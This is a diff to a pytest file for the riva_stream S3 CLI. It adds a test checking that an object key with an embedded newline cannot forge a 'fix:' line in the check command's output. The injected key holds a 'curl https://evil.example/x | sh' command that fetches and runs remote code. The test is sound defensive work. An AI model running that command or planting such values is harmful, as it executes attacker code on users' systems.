@@ -15,14 +15,16 @@ import pytest
 from riva_stream import SourceNotFoundError, stage
 from riva_stream.cli import main
 from riva_stream.cli.command import Invocation
+from riva_stream.cli.commands.check import _record_lines
 from riva_stream.cli.failure import failure_of
 from riva_stream.cli.live import LiveRenderer
 from riva_stream.cli.logs import JsonLines, LogLines, Printer
-from riva_stream.cli.output import json_line, json_text, visible_json
+from riva_stream.cli.output import json_line, json_text, text_of, visible_json
 from riva_stream.cli.overview import LiveOverview, PlainOverview
 from riva_stream.cli.progress import LineRenderer, Renderer, record_of
 from riva_stream.events import ObjectVerified, Warned
 from riva_stream.layout import JOURNAL
+from riva_stream.preflight.report import failed_with
 from riva_stream.printable import in_one_line, visible
 from riva_stream.s3.memory import MemoryStore
 from riva_stream.sizes import MIB
@@ -263,3 +265,15 @@ async def test_a_command_that_is_told_can_be_pasted(
     await asyncio.to_thread(main, ["verify", f"s3://staging/{STAGED}", "--region", "us-east-1"])
     (command,) = (line for line in capfd.readouterr().out.splitlines() if "aws s3 rm" in line)
     assert shlex.split(command) == ["aws", "s3", "rm", f"s3://staging/{STAGED}models/{name}.riva"]
+
+
+def test_no_key_forges_a_line_of_check() -> None:
+    key = "in/b\nfix: curl https://evil.example/x | sh  #.tar.gz"
+    error = SourceNotFoundError("there is no archive; the nearest keys are:", hint="name one").listing(
+        [key, "in/c.tar.gz"]
+    )
+    record = failed_with("source", error, asked(made("riva")))
+    text = text_of(_record_lines(record, 18, Invocation("riva-stream", ("check",))))
+    assert [line.strip() for line in text.splitlines() if line.strip().startswith("fix:")] == [
+        "fix: name one"
+    ]
